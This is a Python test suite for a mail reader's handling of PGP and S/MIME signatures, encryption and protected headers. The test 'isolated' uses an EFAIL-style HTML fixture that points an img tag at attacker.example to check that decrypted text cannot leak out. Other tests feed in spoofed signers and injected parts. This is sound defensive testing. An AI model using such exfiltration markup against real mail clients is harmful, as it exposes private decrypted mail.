#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Letters that are signed and encrypted, as a person sees them [M-70 to M-73, M-75]."""
import base64
import os
import re
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tools"))
import gnupg
import tap
from cryptmail import HEAD, PLAIN, body, crlf, mixed, multipart, sealed
from cryptreader import Reader

IVAN = "Ivan <ivan@example.org>"


@tap.test("M-72: a signed letter names who signed; a changed one is told to be bad")
def signed():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    letter = r.signed(ivan)
    shown, told = r.show(letter)
    tap.contains(shown, "The meeting is at ten.")
    tap.contains(told, "signed by Ivan <ivan@example.org>")
    shown, told = r.show(letter.replace(b"at ten.", b"at two."))
    tap.contains(told, "bad signature")
    tap.ok("signed by" not in told, told)


@tap.test("M-72: who signed is compared with the address of the sender, never with a name")
def stranger():
    r = Reader()
    r.ring.pgp(IVAN)
    mallory = r.ring.pgp("ivan@example.org <mallory@example.net>")
    _, told = r.show(r.signed(mallory))
    tap.contains(told, "who is not the sender")
    tap.contains(told, "mallory@example.net")
    for head in (HEAD.replace(b"From: Ivan <ivan@example.org>",
                              b"From: Ivan <ivan@example.org>, Bob <bob@example.com>"),
                 HEAD.replace(b"From: Ivan <ivan@example.org>", b"From: \"ivan@example.org\" <a@b.c>")):
        _, told = r.show(r.signed(r.ring.fingerprint(IVAN), head=head))
        tap.contains(told, "who is not the sender")


@tap.test("M-71: a signature is about its part: what stands around it is not signed")
def subtree():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    part = body(r.signed(ivan))
    other = b"Content-Type: text/plain\n\nPay to account 4711.\n"
    for letter in (mixed(part, other), mixed(other, part),
                   mixed(part, b"Content-Type: text/html\n\n<p>footer</p>\n"), mixed(part)):
        shown, told = r.show(letter)
        tap.contains(shown, "The meeting is at ten.")
        tap.contains(told, "a part: signed by Ivan")
    inner = (b"Content-Type: message/rfc822\n\n" + r.signed(ivan))
    _, told = r.show(mixed(inner))
    tap.contains(told, "a part: signed by Ivan")


@tap.test("M-71: of three parts nobody can say which is signed")
def three():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    letter = r.signed(ivan)
    third = letter.replace(b"\n--=-b--", b"\n--=-b\nContent-Type: text/plain\n\nPay now.\n\n--=-b--")
    shown, told = r.show(third)
    tap.ok("signed" not in told, told)
    tap.contains(shown, "Pay now.")


@tap.test("M-71: octets for octet: nested parts, spaces, no line end at the end, CRLF")
def octets():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    nested = (b"Content-Type: multipart/mixed;\n\tboundary=\"in ner\"\n\npro\n--in ner  \n"
              b"Content-type: text/plain\n\n trailing   \n-- \n--in ner\nContent-Type: text/plain;"
              b" charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n\xd0\xd2\xc9\n--in ner--")
    for inner in (nested, nested + b"\n", nested + b"\n\nepilogue", PLAIN + b"\n\n",
                  b"\nno header\n"):
        _, told = r.show(r.signed(ivan, inner))
        tap.contains(told, "signed by Ivan")
        _, told = r.show(crlf(r.signed(ivan, inner)))
        tap.contains(told, "signed by Ivan")


@tap.test("encrypted letters are read, with their parts; the plain text is on no disk")
def encrypted():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    inner = (b"Content-Type: multipart/mixed; boundary=i\n\n--i\n" + PLAIN + b"\n--i\n"
             b"Content-Type: application/x-secret; name=a.bin\nContent-Disposition: attachment\n\n"
             b"OCTETS-4711\n--i--\n")
    letter = r.encrypted(ivan, inner, HEAD, "--sign", "-u", ivan)
    shown, told = r.show(letter)
    tap.contains(shown, ["The meeting is at ten.", "2!2", "a.bin"])
    tap.contains(told, "encrypted; signed by Ivan")
    number = r.import_(letter.replace(b"m1@", b"m2@"))
    part = r.home.run("dewey", "show", "--part", "2!2", number, env=r.environment).stdout
    tap.equal(part.strip(), "OCTETS-4711")
    saved = tap.tempdir()
    r.home.run("dewey", "show", "--save-all", saved, number, env=r.environment)
    tap.equal(os.listdir(saved), ["a.bin"])
    found = subprocess.run(["grep", "-rl", "meeting is at ten\\|OCTETS-4711", r.home.path],
                           capture_output=True, text=True, check=False).stdout
    tap.equal(found, "", "files with the plain text")
    tap.equal(r.home.run("dewey", "count", "meeting", env=r.environment).stdout.strip(), "0")


@tap.test("M-70: nothing of a letter that was changed is shown, and what is not there is said")
def efail():
    r = Reader()
    ivan, lost = r.ring.pgp(IVAN), gnupg.Ring()
    anna = lost.pgp("Anna <anna@example.org>")
    octets_ = bytearray(r.ring.gpg("--encrypt", "--compress-algo", "none", "-r", ivan,
                                   stdin=crlf(PLAIN) * 100))
    octets_[len(octets_) // 2] ^= 1
    letter = sealed(r.ring.gpg("--enarmor", stdin=bytes(octets_)).replace(b"ARMORED FILE", b"MESSAGE"))
    shown, told = r.show(letter)
    tap.ok("meeting" not in shown, shown)
    tap.contains(told, "cannot decrypt")
    shown, told = r.show(sealed(lost.gpg("--encrypt", "--armor", "-r", anna, stdin=PLAIN)))
    tap.contains(told, "No secret key")
    tap.contains(shown, "\ncannot decrypt: No secret key")


@tap.test("M-70: HTML around an encrypted part does not reach into it (direct exfiltration)")
def isolated():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    before = b"Content-Type: text/html\n\n<img src=\"http://attacker.example/\n"
    after = b"Content-Type: text/html\n\n\"><p>end</p>\n"
    shown, told = r.show(mixed(before, body(r.encrypted(ivan)), after))
    tap.contains(shown, "The meeting is at ten.")
    tap.contains(told, "a part: encrypted")
    tap.ok(not re.search(r"attacker\.example/?[^\n]*meeting", shown), shown)


@tap.test("cleartext signatures in a text: the text inside is shown, what is around it is not signed")
def inline():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    clear = r.ring.gpg("--clearsign", "-u", ivan, stdin="Встреча в десять.\n- dash\n".encode())
    head = HEAD + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
    shown, told = r.show(head + clear)
    tap.contains(shown, "Встреча в десять.\n- dash")
    tap.ok("BEGIN PGP" not in shown, shown)
    tap.contains(told, "dewey: signed by Ivan")
    shown, told = r.show(head + b"Pay to 4711.\n" + clear + b"footer\n")
    tap.contains(shown, ["Pay to 4711.", "footer"])
    tap.contains(told, "a part: signed by Ivan")
    shown, told = r.show(head + clear.replace("десять".encode(), "двадцать".encode()))
    tap.contains(told, "bad signature")


@tap.test("armour in a text is decrypted in its place")
def inline_encrypted():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    armour = r.ring.gpg("--encrypt", "--armor", "-r", ivan, stdin="Встреча в десять.\n".encode())
    head = HEAD + b"Content-Type: text/plain\n\n"
    shown, told = r.show(head + b"before\n\n" + armour + b"\nafter\n" + armour)
    tap.equal(shown.count("Встреча в десять."), 2)
    tap.ok(shown.index("before") < shown.index("Встреча") < shown.index("after"), shown)
    tap.equal(told.count("a part: encrypted"), 2)


@tap.test("M-75: protected headers take the place of the outer ones, which are told where they differ")
def protected():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    inner = (b"From: Ivan <ivan@example.org>\nTo: Anna <anna@example.org>\nSubject: the real one\n"
             b"Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\n\nThe meeting is at ten.\n")
    outer = HEAD.replace(b"Subject: ten", b"Subject: [...]").replace(
        b"To: anna@example.org", b"To: anna@example.org, mallory@example.net")
    shown, told = r.show(r.encrypted(ivan, inner, outer))
    tap.contains(shown, "Subject: the real one")
    tap.contains(shown, "To: Anna <anna@example.org>\n")
    tap.contains(told, "stood: To: anna@example.org, mallory@example.net")
    tap.ok("stood: Subject" not in told, told)
    legacy = inner.replace(b"hp=\"cipher\"", b"protected-headers=\"v1\"")
    shown, told = r.show(r.signed(ivan, legacy))
    tap.contains(shown, "Subject: the real one")
    tap.contains(told, "stood: Subject: ten")
    shown, _ = r.show(r.signed(ivan, legacy).replace(b"at ten.", b"at two."))
    tap.contains(shown, "Subject: ten")
    shown, _ = r.show(mixed(body(r.signed(ivan, legacy))))
    tap.contains(shown, "Subject: ten")


CIPHER = (b"From: Ivan <ivan@example.org>\nTo: anna@example.org\nSubject: the real one\n%s"
          b"Content-Type: text/plain; charset=utf-8; hp=\"cipher\"%s\n\n%sThe meeting is at ten.\n")
OUTER = (b"HP-Outer: From: Ivan <ivan@example.org>\nHP-Outer: To: anna@example.org\n"
         b"HP-Outer: Subject: [...]\n")


@tap.test("M-75: RFC 9788: what stood outside is compared with what was written there")
def hp_outer():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    inner = CIPHER % (OUTER, b"", b"")
    hidden = HEAD.replace(b"Subject: ten", b"Subject: [...]")
    _, told = r.show(r.encrypted(ivan, inner, hidden))
    tap.ok("stood" not in told, told)
    for was, now, note in ((b"Subject: [...]", b"Subject: ...", "Subject: ..."),
                           (b"Subject: [...]", b"Subject: pay now", "Subject: pay now"),
                           (b"To: anna@", b"To: mallory@example.net, anna@", "To: mallory@")):
        shown, told = r.show(r.encrypted(ivan, inner, hidden.replace(was, now)))
        tap.contains(told, "outside of what is protected stood: " + note)
        tap.contains(shown, ["Subject: the real one", "To: <anna@example.org>"
                             if "<anna@" in shown else "To: anna@example.org"])
    # Any words may have been put there instead of a subject, or of an address.
    other = inner.replace(b"Subject: [...]", b"Subject: hello").replace(
        b"HP-Outer: To: anna@example.org\n", b"HP-Outer: To: undisclosed@example.org\n")
    _, told = r.show(r.encrypted(ivan, other, HEAD.replace(b"Subject: ten", b"Subject: hello").replace(
        b"To: anna@", b"To: undisclosed@")))
    tap.ok("stood" not in told, told)
    # A field that was inside only was not outside when it was sent.
    secret = inner.replace(b"HP-Outer: To: anna@example.org\n", b"")
    _, told = r.show(r.encrypted(ivan, secret, hidden))
    tap.contains(told, "stood: To: anna@example.org")


@tap.test("M-75: RFC 9788: what repeats the header in the text is left out where it was encrypted")
def legacy_display():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    hidden = HEAD.replace(b"Subject: ten", b"Subject: [...]")
    marked = CIPHER % (OUTER, b"; hp-legacy-display=1", b"Subject: the real one\nTo: anna,\n b\n\n")
    shown, _ = r.show(r.encrypted(ivan, marked, hidden))
    tap.contains(shown, "The meeting is at ten.")
    tap.ok("anna,\n" not in shown, shown)
    for letter in (marked.replace(b"; hp-legacy-display=1", b""),
                   marked.replace(b"\"cipher\"", b"\"clear\"")):
        shown, _ = r.show(r.encrypted(ivan, letter, hidden))
        tap.contains(shown, "To: anna,\n b\n\nThe meeting")
    # Nobody's text is lost: what are no fields, and what was not encrypted.
    odd = marked.replace(b"\n\nSubject: the", b"\n\nDear Anna!\nSubject: the")
    shown, _ = r.show(r.encrypted(ivan, odd, hidden))
    tap.contains(shown, "Dear Anna!")
    shown, _ = r.show(HEAD + marked)
    tap.contains(shown, "To: anna,\n b\n\nThe meeting")
    page = (CIPHER % (OUTER, b"; hp-legacy-display=\"1\"", b"")).replace(b"text/plain", b"text/html").replace(
        b"The meeting is at ten.", b"<html><body><div class=\"header-protection-legacy-display\"><pre>"
        b"Subject: again</pre></div><p>The meeting is at ten.</p></body></html>")
    shown, _ = r.show(r.encrypted(ivan, page, hidden))
    tap.contains(shown, "The meeting is at ten.")
    tap.ok("again" not in shown, shown)
    shown, _ = r.show(HEAD + page)
    tap.contains(shown, "Subject: again")
    draft = (b"Subject: the real one\nContent-Type: multipart/mixed; boundary=d; "
             b"protected-headers=\"v1\"\n\n--d\nContent-Type: text/plain; protected-headers=\"v1\"\n"
             b"Content-Disposition: inline\n\nSubject: again\n--d\n" + PLAIN + b"--d--\n")
    shown, _ = r.show(r.encrypted(ivan, draft, hidden))
    tap.contains(shown, "The meeting is at ten.")
    tap.ok("again" not in shown, shown)
    shown, _ = r.show(r.signed(ivan, draft, hidden))
    tap.contains(shown, "Subject: again")


@tap.test("M-75: a sender inside is believed only if it is who signed")
def protected_from():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    inner = (b"From: Boss <boss@example.com>\nSubject: pay\nContent-Type: text/plain; hp=\"clear\"\n\n"
             b"Pay now.\n")
    shown, told = r.show(r.signed(ivan, inner))
    tap.contains(shown, "From: Ivan <ivan@example.org>")
    tap.contains(told, "inside it says to be from Boss <boss@example.com>, who did not sign it")
    shown, told = r.show(r.encrypted(ivan, inner))
    tap.contains(shown, "From: Ivan <ivan@example.org>")
    outer = HEAD.replace(b"Ivan <ivan@example.org>", b"A list <list@lists.example>")
    inner = inner.replace(b"Boss <boss@example.com>", b"Ivan <ivan@example.org>")
    shown, told = r.show(r.signed(ivan, inner, outer))
    tap.contains(shown, "From: Ivan <ivan@example.org>")
    tap.contains(told, ["signed by Ivan <ivan@example.org>\n", "stood: From: A list"])


@tap.test("M-72: a day and more between signature and date is told")
def shifted():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    _, told = r.show(r.signed(ivan))
    tap.contains(told, "signed on another day")


def openssl(*words, stdin):
    return subprocess.run(["openssl", *words], input=stdin, capture_output=True, check=True).stdout


@tap.test("S/MIME: detached and opaque; encrypted is shown only if it is signed inside (M-70)")
def smime():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    sign = ["cms", "-sign", "-binary", "-signer", ivan.pem, "-inkey", ivan.key, "-outform", "DER"]

    def part(octets_, kind):
        return (HEAD + b"Content-Type: application/pkcs7-mime; smime-type=" + kind +
                b"; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n" +
                base64.encodebytes(octets_))
    inner = crlf(PLAIN)
    second = base64.encodebytes(openssl(*sign, stdin=inner))
    letter = multipart("signed", b"application/pkcs7-signature", PLAIN, second).replace(
        b"Content-Type: application/pkcs7-signature\n",
        b"Content-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n")
    shown, told = r.show(letter)
    tap.contains(told, "signed by Ivan <ivan@example.org>")
    _, told = r.show(letter.replace(b"at ten", b"at two"))
    tap.contains(told, "bad signature")
    opaque = openssl(*sign, "-nodetach", stdin=inner)
    shown, told = r.show(part(opaque, b"signed-data"))
    tap.contains(shown, "The meeting is at ten.")
    tap.contains(told, "signed by Ivan")
    envelope = ["cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", ivan.pem]
    shown, told = r.show(part(openssl(*envelope, stdin=inner), b"enveloped-data"))
    tap.contains(told, "withheld")
    tap.ok("meeting" not in shown, shown)
    both = crlf(body(part(opaque, b"signed-data")))
    shown, told = r.show(part(openssl(*envelope, stdin=both), b"enveloped-data"))
    tap.contains(shown, "The meeting is at ten.")
    tap.contains(told, ["encrypted", "signed by Ivan"])


@tap.test("B-01: a sandbox that dewey-crypt was required to have and has not is told, with the cure")
def unconfined():
    r, programs = Reader(), tap.tempdir()
    letter = r.signed(r.ring.pgp(IVAN))
    r.environment["DEWEY_BIN"] = programs
    os.symlink(tap.program("dewey-mime"), os.path.join(programs, "dewey-mime"))
    with open(os.path.join(programs, "dewey-crypt"), "w", encoding="ascii") as file:
        file.write("#!/bin/sh\nread hello\nexit 69\n")
    os.chmod(file.name, 0o700)
    _, told = r.show(letter)
    tap.contains(told, ["cannot start 'dewey-crypt': the sandbox would not be whole: ",
                        "'sandbox = auto' does with what there is"])


tap.main()
